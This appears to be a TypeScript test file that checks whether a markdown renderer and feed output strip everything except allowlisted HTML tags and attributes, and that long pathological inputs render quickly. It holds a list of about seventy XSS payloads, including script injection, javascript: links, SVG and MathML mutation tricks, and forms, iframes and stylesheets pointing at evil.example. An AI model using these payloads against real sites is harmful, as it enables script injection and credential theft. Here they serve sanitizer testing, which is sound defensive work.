import fc from 'fast-check'
import type { Element, Root, RootContent } from 'hast'
import rehypeRaw from 'rehype-raw'
import { unified } from 'unified'
import { describe, expect, test } from 'vitest'
import { feedBody } from './feed-body'
import { markdownText, renderMarkdown } from './markdown'

const tags = (
  'p div br hr ul ol li dl dt dd blockquote pre code kbd samp strong b em i u s del ins sub sup small mark ' +
  'table caption thead tbody tfoot tr th td a h4 h5 h6'
).split(' ')
const attributes: Record<string, string[]> = {
  a: ['href', 'title', 'rel'],
  ol: ['start'],
  td: ['align'],
  th: ['align'],
}
const parser = unified().use(rehypeRaw).freeze()

/** Everything that a browser would find in the HTML and that must not be there. */
function forbidden(html: string): string[] {
  const tree = parser.runSync({ type: 'root', children: [{ type: 'raw', value: html }] } as Root) as Root
  return tree.children.flatMap(forbiddenIn)
}

function forbiddenIn(node: RootContent | Element['children'][number]): string[] {
  if (node.type === 'text') return []
  if (node.type !== 'element') return [node.type]
  const wrong = Object.entries(node.properties).filter(([name, value]) => {
    if (!attributes[node.tagName]?.includes(name)) return true
    return name === 'href' && !/^(https?:\/\/|mailto:|tel:)/i.test(String(value))
  })
  return [
    ...(tags.includes(node.tagName) ? [] : [`<${node.tagName}>`]),
    ...wrong.map(([name, value]) => `${node.tagName}[${name}=${value}]`),
    ...(node.tagName === 'a' && String(node.properties.rel) !== 'nofollow,noopener' ? ['a without rel'] : []),
    ...node.children.flatMap(forbiddenIn),
  ]
}

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://i.example/x.png" onload=alert(1) style="position:fixed">',
  '<p onclick="alert(1)">x</p>',
  '<b onmouseover=alert(1)//',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https://ok.example" ping="https://evil.example" id=x class=y style=z>x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](https://ok.example "onclick=\\"alert(1)")',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://i.example/x.png)',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<input type=text autofocus onfocus=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src=x>',
  '<style>*{display:none}</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<html><body onload=alert(1)><p>x',
  '<video><source onerror=alert(1)></video><audio src=x autoplay>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```js onclick=alert(1)\nx\n```',
  '<table><tr><td><form><script>alert(1)</script></td></tr></table>',
  '</p></div></main><h1>out</h1>',
  '<p><a href="https://a.example"><a href="javascript:alert(1)">x</a></a>',
  '<a href="https://a.example',
  '<ul><li><b><i><script>unclosed',
  '# x {onclick=alert(1)}\n\n<h2 id="page" class="x">y</h2>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '- [x] <img src=x onerror=alert(1)>',
  'https://x.example/"onmouseover="alert(1)',
  'https://x.example/<script>alert(1)</script>',
  'a@b.example"onclick=alert(1)',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '\ud800<b>\udc00',
  '<select><option><script>alert(1)</script></option></select>',
  '<custom-element onclick=alert(1)>x</custom-element>',
]

describe('nothing but allowed elements and attributes comes out of', () => {
  test.each(payloads)('%j', (payload) => {
    for (const text of [payload, `before ${payload} after`, `> - ${payload}`, `**${payload}**`, payload.repeat(3)]) {
      expect(forbidden(renderMarkdown(text))).toEqual([])
      expect(forbidden(feedBody(text))).toEqual([])
      expect(typeof markdownText(text)).toBe('string')
    }
  })

  test('any mixture of them', () => {
    const piece = fc.oneof(
      fc.constantFrom(...payloads),
      fc.constantFrom(...'<>"\'`&;/\n*_[]()!'),
      fc.string({ maxLength: 5 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const text = pieces.join('')
        expect(forbidden(renderMarkdown(text))).toEqual([])
        expect(forbidden(feedBody(text))).toEqual([])
      }),
      { numRuns: 1000 },
    )
  })
})

const filled = (pattern: string, length = 64 * 1024) =>
  pattern.repeat(Math.ceil(length / pattern.length)).slice(0, length)

describe('64 KB of anything is rendered in reasonable time and keeps its words', () => {
  const patterns = [
    'word ',
    '>',
    '> ',
    '[',
    '![',
    '**a *b ',
    '`a``',
    '<div>',
    '<b>',
    '<',
    '- ',
    '1. ',
    '<ul><li>',
    '<table><td>',
  ]
  const more = [
    '[a](',
    '~~a',
    '-\n',
    '|b|\n',
    'a\n',
    '[a][b]',
    'https://x.example/ ',
    'a@',
    '<!--',
    '&',
    'a_',
    '<a ',
    '<a b=',
    '\\',
  ]
  test.each([...patterns, ...more])('%j', (pattern) => {
    for (const length of [30_000, 64 * 1024]) {
      const text = `${filled(pattern, length - 10)}\n\nlast words`
      const begun = performance.now()
      const html = renderMarkdown(text)
      const feed = feedBody(text)
      const took = performance.now() - begun
      expect(took).toBeLessThan(5000)
      if (!'<!--'.startsWith(pattern.trim())) expect(html + feed).toContain('last')
    }
  })

  test('nesting hundreds deep', () => {
    const nested = Array.from({ length: 300 }, (_, i) => `${' '.repeat(i * 2)}- a`).join('\n')
    expect(forbidden(renderMarkdown(nested))).toEqual([])
    const quoted = Array.from({ length: 200 }, (_, i) => `${'>'.repeat(i)} a`).join('\n')
    expect(forbidden(renderMarkdown(quoted))).toEqual([])
  })
})
